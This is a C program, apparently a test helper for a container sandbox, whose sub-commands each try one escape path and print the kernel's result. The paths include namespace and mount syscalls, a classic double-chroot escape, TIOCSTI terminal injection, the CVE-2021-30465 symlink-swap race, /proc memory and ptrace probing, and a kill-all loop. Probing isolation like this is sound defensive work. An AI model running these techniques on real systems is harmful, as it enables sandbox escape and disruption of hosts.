// Tries to leave its container; each sub-command is one way and prints what the kernel said.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void say(const char* what, long result) {
  printf("%s=%s\n", what, result >= 0 ? "worked" : strerrorname_np(errno));
}

static int compat_call(int number, unsigned first, unsigned second) {
  int result;
  asm volatile("int $0x80"
               : "=a"(result)
               : "a"(number), "b"(first), "c"(second), "d"(0), "S"(0), "D"(0)
               : "memory", "r8", "r9", "r10", "r11");
  if (result >= 0) return result;
  errno = -result;
  return -1;
}

// Everything that would make or join a namespace, or change the mount tree, in all spellings.
static int calls(void) {
  static const struct {
    const char* name;
    int flag;
  } namespaces[] = {{"user", CLONE_NEWUSER},     {"mount", CLONE_NEWNS}, {"pid", CLONE_NEWPID},
                    {"net", CLONE_NEWNET},       {"ipc", CLONE_NEWIPC},  {"uts", CLONE_NEWUTS},
                    {"cgroup", CLONE_NEWCGROUP}, {"time", 0x80}};
  char name[64];
  for (unsigned i = 0; i < sizeof namespaces / sizeof *namespaces; i++) {
    snprintf(name, sizeof name, "unshare-%s", namespaces[i].name);
    say(name, syscall(SYS_unshare, namespaces[i].flag));
    snprintf(name, sizeof name, "compat-unshare-%s", namespaces[i].name);
    say(name, compat_call(310, (unsigned)namespaces[i].flag, 0));
    if (namespaces[i].flag == 0x80) continue;  // In clone this bit is part of the exit signal.
    long child = syscall(SYS_clone, namespaces[i].flag | SIGCHLD, 0, 0, 0, 0);
    if (child == 0) _exit(0);
    snprintf(name, sizeof name, "clone-%s", namespaces[i].name);
    say(name, child);
  }
  int self = open("/proc/1/ns/mnt", O_RDONLY);
  say("setns", syscall(SYS_setns, self, 0));
  say("mount-proc", syscall(SYS_mount, "proc", "/tmp", "proc", 0, 0));
  say("remount", syscall(SYS_mount, 0, "/", 0, 32 | 4096, 0));
  say("umount", syscall(SYS_umount2, "/proc", 2));
  say("fsopen", syscall(SYS_fsopen, "cgroup2", 0));
  say("open-tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
  say("move-mount", syscall(SYS_move_mount, AT_FDCWD, "/proc", AT_FDCWD, "/tmp", 0));
  say("mount-setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, 0, 0));
  say("pivot-root", syscall(SYS_pivot_root, "/", "/"));
  say("open-by-handle", syscall(SYS_open_by_handle_at, AT_FDCWD, name, O_RDONLY));
  say("keyctl-user", syscall(SYS_keyctl, 0, -4, 0));
  say("keyctl-session", syscall(SYS_keyctl, 1, 0));
  say("add-key", syscall(SYS_add_key, "user", "x", "y", 1, -4));
  say("bpf", syscall(SYS_bpf, 0, 0, 0));
  say("perf", syscall(SYS_perf_event_open, 0, 0, -1, -1, 0));
  say("io-uring", syscall(SYS_io_uring_setup, 1, 0));
  say("userfaultfd", syscall(SYS_userfaultfd, 0));
  say("kexec", syscall(SYS_kexec_load, 0, 0, 0, 0));
  say("module", syscall(SYS_init_module, 0, 0, ""));
  say("reboot", syscall(SYS_reboot, 0, 0, 0, 0));
  say("swapoff", syscall(SYS_swapoff, "/x"));
  say("syslog", syscall(SYS_syslog, 3, name, sizeof name));
  say("settimeofday", syscall(SYS_settimeofday, 0, 0));
  say("adjtimex", syscall(SYS_adjtimex, 0));
  say("sethostname", syscall(SYS_sethostname, "x", 1));
  say("iopl", syscall(SYS_iopl, 3));
  say("personality", syscall(SYS_personality, READ_IMPLIES_EXEC));
  say("socket-alg", socket(38, SOCK_SEQPACKET, 0));
  say("socket-vsock", socket(40, SOCK_STREAM, 0));
  say("socket-packet", socket(AF_PACKET, SOCK_RAW, 0));
  say("compat-socket-alg", compat_call(359, 38, SOCK_SEQPACKET));
  say("clone3", syscall(SYS_clone3, 0, 0));
  say("x32", syscall(0x40000000 | SYS_getpid));
  return 0;
}

// The classic: a second chroot makes ".." of the working directory unbounded, up to the root mount.
static int chroot_escape(void) {
  mkdir("/jail", 0755);
  int outside = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot("/jail") != 0) return 1;
  fchdir(outside);
  for (int i = 0; i < 64; i++) chdir("..");
  chroot(".");
  struct stat s;
  printf("guest=%d etc-shadow=%d\n", stat("/bin/attack", &s) == 0, stat("/etc/shadow", &s) == 0);
  return 0;
}

static int open_modes(const char* path) {
  say("read", open(path, O_RDONLY | O_NONBLOCK));
  say("write", open(path, O_WRONLY | O_NONBLOCK));
  say("both", open(path, O_RDWR | O_NONBLOCK));
  return 0;
}

// A node of the kernel's log (character device 1:11).
static int make_and_open(const char* path) {
  if (mknod(path, S_IFCHR | 0666, 1 << 8 | 11) != 0) say("make", -1);
  say("open", open(path, O_RDONLY | O_NONBLOCK));
  return 0;
}

// Where the descriptors of a process lead.
static int descriptors_of(const char* pid) {
  char path[300], target[300];
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR* dir = opendir(path);
  if (!dir) return puts(strerrorname_np(errno)) < 0;
  struct dirent* entry;
  while ((entry = readdir(dir))) {
    if (entry->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
    ssize_t size = readlink(path, target, sizeof target - 1);
    target[size < 0 ? 0 : size] = 0;
    puts(target);
  }
  return 0;
}

static int trace(int pid) {
  say("attach", ptrace(PTRACE_ATTACH, pid, 0, 0));
  return 0;
}

static int inject(void) {
  say("tiocsti", ioctl(0, TIOCSTI, "x"));
  say("tiocsti-high", syscall(SYS_ioctl, 0, (1UL << 32) | TIOCSTI, "x"));
  char paste = 3;
  say("tioclinux", ioctl(0, TIOCLINUX, &paste));
  say("compat-tiocsti", compat_call(54, 0, TIOCSTI));
  say("dev-tty", open("/dev/tty", O_RDWR));
  return 0;
}

static int connect_abstract(const char* name) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  say("connect",
      connect(s, (struct sockaddr*)&address, (socklen_t)(sizeof(sa_family_t) + 1 + strlen(name))));
  return 0;
}

// Swaps a directory and a link for ever: the race of CVE-2021-30465.
static int swap(const char* directory, const char* target) {
  if (chdir(directory) != 0) return 1;
  mkdir("real", 0777);
  symlink(target, "link");
  write(1, "ready\n", 6);
  for (;;) syscall(SYS_renameat2, AT_FDCWD, "real", AT_FDCWD, "link", 2 /* RENAME_EXCHANGE */);
}

static int write_text(const char* path, const char* text) {
  int fd = open(path, O_WRONLY);
  say("write", fd < 0 ? -1 : write(fd, text, strlen(text)));
  return 0;
}

static volatile sig_atomic_t stopped;
static void stop(int number) { stopped = number; }

// Looks into every process that is not our own program, by all doors there are, until told to stop.
static int watch(void) {
  signal(SIGTERM, stop);
  write(1, "ready\n", 6);
  long rounds = 0;
  int self = getpid();
  for (; !stopped; rounds++) {
    for (int pid = 2; pid < 400 && !stopped; pid++) {
      char path[64], target[300];
      if (pid == self) continue;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      ssize_t size = readlink(path, target, sizeof target - 1);
      if (size <= 0) continue;
      target[size] = 0;
      if (!strncmp(target, "/bin/", 5)) continue;  // Of the image.
      printf("leak: %s is %s\n", path, target);
      snprintf(path, sizeof path, "/proc/%d/mem", pid);
      if (open(path, O_RDWR) >= 0) printf("leak: %s opened\n", path);
      if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) printf("leak: traced %d\n", pid);
    }
  }
  printf("rounds=%ld\n", rounds);
  return 0;
}

static int kill_all(void) {
  write(1, "ready\n", 6);
  for (;;) kill(-1, SIGKILL);
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char* what = argc > 1 ? argv[1] : "";
  const char* one = argc > 2 ? argv[2] : "";
  const char* two = argc > 3 ? argv[3] : "";
  if (!strcmp(what, "calls")) return calls();
  if (!strcmp(what, "chroot")) return chroot_escape();
  if (!strcmp(what, "open")) return open_modes(one);
  if (!strcmp(what, "make-and-open")) return make_and_open(one);
  if (!strcmp(what, "descriptors-of")) return descriptors_of(one);
  if (!strcmp(what, "trace")) return trace(atoi(one));
  if (!strcmp(what, "inject")) return inject();
  if (!strcmp(what, "connect-abstract")) return connect_abstract(one);
  if (!strcmp(what, "fifo")) return mkfifo(one, 0666) != 0;
  if (!strcmp(what, "watch")) return watch();
  if (!strcmp(what, "kill-all")) return kill_all();
  if (!strcmp(what, "swap")) return swap(one, two);
  if (!strcmp(what, "write")) return write_text(one, two);
  printf("unknown attack %s\n", what);
  return 8;
}
